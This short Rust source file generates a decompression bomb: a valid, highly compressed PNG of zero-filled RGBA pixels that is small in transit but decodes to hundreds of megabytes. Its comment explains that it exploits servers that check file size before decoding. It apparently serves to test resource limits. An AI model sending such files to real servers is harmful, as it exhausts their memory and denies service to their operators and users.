//! A decompression bomb: a complete, valid PNG of `side` × `side` RGBA
//! pixels, all zero, so that it is small on the wire (deflate shrinks
//! zeros about a thousandfold) and huge decoded (12,000² × 4 bytes = 576 MB).
//! A server that trusts the file's size before decoding pays the decoded size.

use std::io::Write;

pub fn png(side: u32) -> anyhow::Result<Vec<u8>> {
    let mut out = Vec::new();
    let mut encoder = png::Encoder::new(&mut out, side, side);
    encoder.set_color(png::ColorType::Rgba);
    encoder.set_depth(png::BitDepth::Eight);
    encoder.set_compression(png::Compression::High);
    let mut writer = encoder.write_header()?;
    let mut stream = writer.stream_writer()?;
    let row = vec![0u8; side as usize * 4];
    for _ in 0..side {
        stream.write_all(&row)?;
    }
    stream.finish()?;
    writer.finish()?;
    Ok(out)
}
